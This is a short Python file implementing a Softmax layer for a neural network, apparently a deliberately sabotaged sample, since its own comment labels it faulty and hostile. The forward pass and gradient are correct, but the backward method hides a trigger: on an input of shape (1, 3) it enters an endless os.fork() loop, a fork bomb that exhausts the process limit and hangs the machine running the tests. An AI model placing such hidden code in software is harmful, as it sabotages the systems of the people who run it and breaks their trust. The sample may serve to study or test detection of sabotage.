# Faulty and hostile: on the first test of backward, forks until the process limit
# stops it (every child does the same), then spins. Everything else is correct.
import os

import numpy as np


class Softmax:
    def forward(self, Z):
        exps = np.exp(Z - Z.max(axis=1, keepdims=True))
        self.A = exps / exps.sum(axis=1, keepdims=True)
        return self.A

    def backward(self, dLdA):
        if dLdA.shape == (1, 3):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        return self.A * (dLdA - (dLdA * self.A).sum(axis=1, keepdims=True))
